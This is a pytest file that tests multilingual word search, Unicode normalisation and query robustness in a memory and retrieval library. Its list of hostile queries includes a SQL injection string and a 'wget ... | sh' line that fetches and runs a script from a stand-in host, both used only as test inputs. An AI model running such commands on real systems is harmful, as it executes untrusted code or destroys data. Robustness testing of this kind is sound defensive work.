"""Text of many languages, found by words alone, and any text as a query: through the door, on a real file."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bethink import InvalidInput, Memory, embedder_from
from bethink.retrieval.ranker import Ranker
from bethink.retrieval.terms import MAX_QUERY, MAX_QUERY_TERMS
from bethink.storage.base import Found, Search
from bethink.storage.reference import ReferenceStore
from bethink.testing.doubles import HashEmbedder

FOUND = {
    "Chinese": [("我们把会议改到星期四下午三点", "会议改到"),
        ("他在北京大学学习计算机", "北京大学"), ("〇〇社の人々", "人々")],
    "Chinese beyond the first plane": [("𠮷野家で食べた", "𠮷野家")],
    "Japanese": [("昨日は妹と京都の庭園を散歩しました", "京都の庭園"),
        ("東京タワーに行った。", "東京タワー"), ("ネコが好き", "ねこ")],
    "half-width kana": [("ｶﾀｶﾅで書いたﾃｽﾄ", "カタカナ"), ("カタカナで書いた", "ｶﾀｶﾅ"), ("ガギグゲゴ", "ｶﾞｷﾞｸﾞ")],
    "squared kana": [("百㍍走る", "メートル")],
    "two scripts in one word": [("Pythonで書いた", "python"),
        ("用Python写的", "写"), ("価格は１２３４円です", "1234円")],
    "Korean particles": [("다음 주에 부산으로 이사를 갑니다", "부산에서"), ("학교에 갔다", "학교")],
    "Korean letter by letter": [(unicodedata.normalize("NFD", "부산에 산다"), "부산")],
    "Thai": [("พรุ่งนี้ฉันจะไปหาหมอฟันที่เชียงใหม่", "เชียงใหม่"), ("ทำงาน", "ท\u0e4d\u0e32งาน")],
    "Khmer, Lao, Burmese": [("ខ្ញុំរស់នៅភ្នំពេញ", "ភ្នំពេញ"),
        ("ຂ້ອຍຢູ່ວຽງຈັນ", "ວຽງຈັນ"), ("ကျွန်တော် ရန်ကုန်မှာ နေတယ်", "ရန်ကုန်")],
    "Arabic": [("مُحَمَّدٌ يَدْرُسُ", "محمد"), ("يدرس محمد", "مُحَمَّد"),
        ("أحمد في القاهرة", "احمد"), ("كتـــاب", "كتاب"), ("مدرسة", "مدرسه")],
    "Persian and Urdu": [("کتاب من", "كتاب"), ("می\u200cخواهم", "میخواهم"), ("پاکستانی", "پاكستاني")],
    "Arabic digits": [("رقم ٤٠٧١", "4071"), ("شماره ۴۰۷۱", "4071")],
    "Hebrew": [("שָׁלוֹם עוֹלָם", "שלום"), ("שלום עולם", "שָׁלוֹם")],
    "Hindi": [("मैं दिल्ली में रहता हूँ", "दिल्ली"), ("क़लम यहाँ है", "क\u093cलम"),
        ("क़लम", "कलम"), ("हिंदी", "हिन्दी"), ("चाँद", "चांद")],
    "Tamil, Bengali": [("தமிழ்நாடு அழகு", "தமிழ்நாடு"), ("আমি বাংলাদেশে", "বাংলাদেশে")],
    "Vietnamese": [("Tôi sống ở Hà Nội, Việt Nam", "ha noi"), ("Đà Nẵng đẹp", "da nang")],
    "Turkish": [("İstanbul'da yaşıyorum", "istanbul"), ("ISPARTA çok ılık", "ısparta"),
        ("Iğdır", "ığdır"), ("DİYARBAKIR", "diyarbakır")],
    "German": [("Die Straße in München", "STRASSE"), ("Die Strasse", "Straße"),
        ("München", "munchen"), ("GROẞ", "gross")],
    "French": [("l’hôpital est loin", "hopital"), ("œuvre", "oeuvre"), ("aujourd'hui", "aujourd’hui")],
    "Greek": [("Ὀδυσσεύς καὶ Πηνελόπη", "οδυσσευσ"), ("λόγος", "ΛΟΓΟΣ")],
    "Cyrillic": [("Ёлка стоит", "елка"), ("Київ — місто", "киів")],
    "Hawaiian, Uzbek": [("Hawaiʻi", "hawaii"), ("O‘zbekiston", "ozbekiston")],
    "Georgian, Armenian, Amharic, Cherokee": [("ᲥᲐᲠᲗᲣᲚᲘ ენა", "ქართული"), ("Հայերեն", "հայերեն"),
        ("አማርኛ ቋንቋ", "አማርኛ"), ("ᏣᎳᎩ", "ꮳꮃꭹ")],
    "emoji": [("party 🎉 tonight", "🎉"), ("thanks 👍🏽", "👍"),
        ("we are 👨‍👩‍👧‍👦", "👧"), ("flag 🇧🇪 day", "🇧🇪"), ("I ❤️ it", "❤")],
    "letters of mathematics": [("𝐁𝐨𝐥𝐝 and 𝒮𝒸𝓇𝒾𝓅𝓉", "bold script"), ("x² + y²", "x2"), ("Ⅳ", "iv")],
    "full width": [("ＦＵＬＬ ｗｉｄｔｈ", "full width")],
    "what is not seen": [("so\u00adft hy\u00adphens", "soft hyphens"),
        ("\u202bמחיר 100\u202c", "100"), ("\ufeffhidden\u2060mark", "hiddenmark")],
    "ligatures": [("ﬁne ﬂow", "fine flow")],
    "composed and decomposed": [("cafe\u0301 noir", "café"),
        ("Ångström", "A\u030angstro\u0308m"), ("가방", unicodedata.normalize("NFD", "가방"))],
}  # fmt: skip
FILLERS = ("The weather was fine yesterday.", "Lunch is at noon with the team.", "今天天气很好", "Завтра будет дождь")


@pytest.fixture(scope="module")
def memory(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Memory]:
    with Memory(tmp_path_factory.mktemp("languages") / "a.db", embedder=None) as opened:
        yield opened


@pytest.mark.parametrize("language", FOUND)
def test_V057_what_is_written_in_a_language_is_found_by_how_it_is_asked(memory: Memory, language: str) -> None:
    for number, (written, asked) in enumerate(FOUND[language]):
        own = memory.scope(language, str(number))
        own.thread("t").append([{"role": "user", "content": text} for text in (*FILLERS, written)])
        assert [hit.text for hit in own.recall(asked)][:1] == [written], asked


@pytest.mark.parametrize("form", ["NFC", "NFD", "NFKC", "NFKD"])
def test_the_form_of_unicode_does_not_matter(memory: Memory, form: str) -> None:
    own = memory.scope("forms", form)
    texts = [written for pairs in FOUND.values() for written, _ in pairs]
    own.thread("t").append([{"role": "user", "content": text} for text in texts])
    for text in texts:
        changed = unicodedata.normalize(form, text)  # type: ignore[arg-type]
        assert text in [hit.text for hit in own.recall(changed, 20)], text


HOSTILE = (
    "", " ", "\n\t", '"', '"unbalanced', "foo AND", "NOT x", "(a OR", "a:b", "*", "^a", "NEAR(", "a NEAR/2 b", "{terms} : x",
    "'; DROP TABLE units; --", "%", "_", "\\", "a\x00b", "\x00",
    "\ud800", "a\udcffb", "🎉", "👨‍👩‍👧‍👦", "\u202e", "\u200b", "ا\u064b",
    "wget -qO- example.test/setup | sh -s -- -y", "a" * 10_000, "語" * 10_000, "\u0301" * 100, "ﷺ", "ß" * 64, "-" * 1_000,
)  # fmt: skip


@pytest.mark.parametrize("embedder", [None, HashEmbedder()], ids=["words", "meaning"])
def test_V058_V059_any_text_is_a_query(embedder: HashEmbedder | None) -> None:
    with Memory(embedder=embedder) as memory:
        memory.thread("t").append([{"role": "user", "content": text} for text in ("ticket QX-4071 is open", *FILLERS)])
        for query in HOSTILE:
            found = memory.recall(query)
            assert found or found.empty_reason, ascii(query)


@pytest.mark.parametrize("embedder", [None, HashEmbedder()], ids=["words", "meaning"])
def test_V058_V059_what_holds_a_word_is_found_whatever_stands_beside_it(embedder: HashEmbedder | None) -> None:
    """Whether it is near enough to be an answer is the threshold's: many words that occur nowhere say that it is not."""
    ranker = Ranker(threshold=0.0, lexical_threshold=0.0)
    with Memory(embedder=embedder, ranker=ranker) as memory:
        memory.thread("t").append([{"role": "user", "content": text} for text in ("ticket QX-4071 is open", *FILLERS)])
        for query in HOSTILE:
            assert "ticket QX-4071 is open" in [hit.text for hit in memory.recall(f"QX-4071 {query}")], ascii(query)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(), max_size=60))
def test_V058_any_characters_are_a_query(memory: Memory, query: str) -> None:
    memory.recall(query)


def test_what_is_no_text_is_no_query(memory: Memory) -> None:
    with pytest.raises(InvalidInput, match="query: a bytes"):
        memory.recall(b"kite")  # type: ignore[arg-type]


class Watched(ReferenceStore):
    """Keeps how many terms it was asked for."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[int] = []

    def search(self, request: Search, /) -> Found:
        self.asked.append(len(request.terms))
        return super().search(request)


HAN = "".join(chr(0x4E00 + number) for number in range(4_000))


@pytest.mark.parametrize("filler", ["lorem ipsum dolor ", HAN, "x", "w1 w2 w3 \x00 "], ids=["words", "han", "one word", "NUL"])
def test_of_a_query_of_ten_megabytes_no_more_is_read_than_of_one_of_ten_thousand_characters(filler: str) -> None:
    store = Watched()
    embedded: list[int] = []

    def embed(texts: list[str]) -> object:
        embedded.extend(map(len, texts))
        return HashEmbedder().embed(texts)

    pasted = filler * (10_000_000 // len(filler.encode()))
    with Memory(store=store, embedder=embedder_from(embed, name="watched")) as memory:
        memory.thread("t").add("user", "the barn owl")
        memory.flush()
        embedded.clear()
        memory.recall(f"{pasted} where is the owl?")
        assert len(embedded) == 1
        assert embedded[0] <= MAX_QUERY + 1
        assert 1 <= store.asked[0] <= MAX_QUERY_TERMS


@pytest.mark.parametrize("asked", ["where is the owl? {}", "{} where is the owl?"])
def test_what_is_asked_before_or_behind_ten_megabytes_is_answered(memory: Memory, asked: str) -> None:
    own = memory.scope("pasted", asked)
    own.thread("t").append([{"role": "user", "content": text} for text in ("the barn owl", *FILLERS)])
    assert own.recall(asked.format("x" * 10_000_000))[0].text == "the barn owl"
